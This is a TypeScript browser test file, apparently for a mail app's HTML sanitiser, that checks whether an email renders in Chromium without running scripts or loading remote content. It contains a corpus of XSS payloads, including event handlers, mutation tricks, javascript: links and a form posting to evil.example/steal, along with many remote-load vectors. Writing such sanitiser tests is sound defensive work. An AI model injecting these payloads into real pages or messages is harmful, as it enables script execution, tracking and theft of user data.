// R-MAIL-5: logged HTML, sanitised as it is stored, rendered by a real Chromium with nothing else in
// the way (no sandbox, no Content-Security-Policy): no payload of an XSS corpus runs a script, and
// nothing is fetched from anywhere (every request the page makes is recorded and answered locally).
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sanitizeEmailHtml } from "../../server/mail/sanitize.js";
import { launchChromium } from "../outlook/pane-harness.js";

/** Each payload calls `hit(name)` (or alert) if it runs, or fetches from evil.example if it loads. */
const corpus: Record<string, string> = {
  script: "<script>hit('script')</script>",
  "script, src": '<script src="https://evil.example/x.js"></script>',
  "img onerror": "<img src=x onerror=\"hit('img onerror')\">",
  "svg onload": "<svg onload=\"hit('svg onload')\"><circle r=5 /></svg>",
  "svg script": "<svg><script>hit('svg script')</script></svg>",
  "svg use href": '<svg><use href="https://evil.example/s.svg#x"></use></svg>',
  "body onload": "<body onload=\"hit('body onload')\">x</body>",
  "details ontoggle": "<details open ontoggle=\"hit('details ontoggle')\">x</details>",
  "marquee onstart": "<marquee onstart=\"hit('marquee onstart')\">x</marquee>",
  "autofocus onfocus": "<input autofocus onfocus=\"hit('autofocus onfocus')\">",
  "iframe srcdoc": "<iframe srcdoc=\"<script>parent.hit('iframe srcdoc')</script>\"></iframe>",
  "iframe src": '<iframe src="https://evil.example/frame"></iframe>',
  "object data": '<object data="https://evil.example/o.swf"></object>',
  "embed src": '<embed src="https://evil.example/e.swf">',
  "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  "meta refresh javascript":
    '<meta http-equiv="refresh" content="0;url=javascript:hit(\'meta refresh javascript\')">',
  "link stylesheet": '<link rel="stylesheet" href="https://evil.example/s.css">',
  "link prefetch": '<link rel="prefetch" href="https://evil.example/prefetch">',
  "style import": "<style>@import url(https://evil.example/import.css);</style>",
  "style background": "<style>body{background:url(https://evil.example/bg.png)}</style>",
  "inline style url": '<div style="background-image:url(https://evil.example/inline.png)">x</div>',
  "inline style escaped url": '<div style="background:u\\72l(https://evil.example/escaped.png)">x</div>',
  "inline style image-set": "<div style=\"background:image-set('https://evil.example/set.png' 1x)\">x</div>",
  "remote img": '<img src="https://evil.example/pixel.gif" alt="pixel">',
  "protocol-relative img": '<img src="//evil.example/relative.gif">',
  "img srcset": '<img srcset="https://evil.example/srcset.png 1x">',
  "picture source": '<picture><source srcset="https://evil.example/source.png"><img alt=p></picture>',
  "video poster": '<video poster="https://evil.example/poster.png"></video>',
  "audio src": '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  "input image": '<input type="image" src="https://evil.example/input.png">',
  "table background": '<table background="https://evil.example/table.png"><tr><td>x</td></tr></table>',
  "td background": '<table><tr><td background="https://evil.example/td.png">x</td></tr></table>',
  "body background": '<body background="https://evil.example/body.png">x</body>',
  "base href": '<base href="https://evil.example/"><img src="relative.png">',
  "form action": '<form action="https://evil.example/steal"><input name=p><button>go</button></form>',
  "a ping": '<a href="https://example.com/" ping="https://evil.example/ping">link</a>',
  "mutation noscript":
    "<noscript><p title=\"</noscript><img src=x onerror=hit('mutation noscript')>\"></noscript>",
  "mutation svg style": "<svg><style><img src=x onerror=hit('mutation svg style')></style></svg>",
  "math href": "<math><mi xlink:href=\"javascript:hit('math href')\">x</mi></math>",
  template: "<template><img src=x onerror=hit('template')></template>",
  "unclosed attribute": "<img src=x onerror=hit('unclosed attribute')//",
  "comment trick": "<!--<img src=\"--><img src=x onerror=hit('comment trick')//\">",
  cdata: "<![CDATA[><img src=x onerror=hit('cdata')>]]>",
  "entity-encoded handler": "<img src=x onerror=&#104;&#105;&#116;('entity')>",
  "object javascript": "<object data=\"javascript:hit('object javascript')\"></object>",
  "data html iframe": "<iframe src=\"data:text/html,<script>parent.hit('data iframe')</script>\"></iframe>",
  "font face url": '<font face="x" style="font-family:x;src:url(https://evil.example/font.woff)">x</font>',
};

/** Links a reader may click: what they point at must never be code. */
const clickable: Record<string, string> = {
  "javascript link": "<a href=\"javascript:hit('javascript link')\">a</a>",
  "javascript link, tab inside": "<a href=\"jav&#x09;ascript:hit('tab link')\">a</a>",
  "javascript link, upper case": "<a href=\"JAVASCRIPT:hit('upper link')\">a</a>",
  "javascript link, entity": "<a href=\"&#106;avascript:hit('entity link')\">a</a>",
  "vbscript link": '<a href="vbscript:msgbox(1)">a</a>',
  "data html link": "<a href=\"data:text/html,<script>hit('data link')</script>\">a</a>",
  "svg a xlink": "<svg><a xlink:href=\"javascript:hit('svg a')\"><text y=20>a</text></a></svg>",
};

describe("R-MAIL-5 logged HTML rendered in Chromium", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchChromium();
  }, 60_000);
  afterAll(() => browser?.close());

  async function render(html: string) {
    const page = await browser.newPage();
    const hits: string[] = [];
    const requests: string[] = [];
    await page.exposeFunction("hit", (name: string) => void hits.push(name));
    page.on("dialog", (d) => {
      hits.push(`dialog: ${d.message()}`);
      void d.dismiss();
    });
    await page.route("**/*", (route) => {
      const url = route.request().url();
      if (url === "https://mail.test/") return route.fulfill({ contentType: "text/html", body: html });
      requests.push(url);
      return route.fulfill({ status: 404, body: "" });
    });
    await page.goto("https://mail.test/", { waitUntil: "load" });
    // Long enough for a zero-second refresh, an autofocus handler or a lazy image.
    await page.waitForTimeout(300);
    return { page, hits, requests };
  }

  it("R-MAIL-5: no payload of the XSS corpus runs a script or loads anything, all in one message", async () => {
    const sanitized = sanitizeEmailHtml(
      `<html><head></head><body>${Object.values(corpus).join("\n<hr>\n")}<p>Hola</p></body></html>`,
      () => undefined,
    );
    const { page, hits, requests } = await render(`<!doctype html><html><body>${sanitized}</body></html>`);
    expect(hits).toEqual([]);
    expect(requests).toEqual([]);
    expect(await page.textContent("body")).toContain("Hola");
    await page.close();
  }, 60_000);

  it("R-MAIL-5: each payload sanitised on its own (as one message each) runs nothing and loads nothing", async () => {
    const one = Object.entries(corpus).map(
      ([name, payload]) =>
        `<section data-payload="${name}">${sanitizeEmailHtml(payload, () => undefined)}</section>`,
    );
    const { page, hits, requests } = await render(
      `<!doctype html><html><body>${one.join("\n")}</body></html>`,
    );
    expect(hits).toEqual([]);
    expect(requests).toEqual([]);
    expect(await page.$$eval("section", (s) => s.length)).toBe(Object.keys(corpus).length);
    await page.close();
  }, 60_000);

  it("R-MAIL-5: clicking any link left in logged HTML runs no script: only web, mail and phone links stay", async () => {
    const sanitized = sanitizeEmailHtml(Object.values(clickable).join("\n"), () => undefined);
    const { page, hits } = await render(`<!doctype html><html><body>${sanitized}</body></html>`);
    const hrefs = await page.$$eval("a", (as) => as.map((a) => a.getAttribute("href")));
    for (const href of hrefs) if (href !== null) expect(href).toMatch(/^(https?:|mailto:|tel:|#)/i);
    for (const a of await page.$$("a")) await a.click({ noWaitAfter: true, force: true }).catch(() => {});
    await page.waitForTimeout(200);
    expect(hits).toEqual([]);
    await page.close();
  }, 60_000);

  it("R-MAIL-5: the detector itself works: the same corpus unsanitised runs scripts and loads remote files", async () => {
    const { page, hits, requests } = await render(
      `<!doctype html><html><body>${corpus.script}${corpus["img onerror"]}${corpus["remote img"]}</body></html>`,
    );
    expect(hits).toEqual(expect.arrayContaining(["script", "img onerror"]));
    expect(requests).toContain("https://evil.example/pixel.gif");
    await page.close();
  }, 60_000);
});
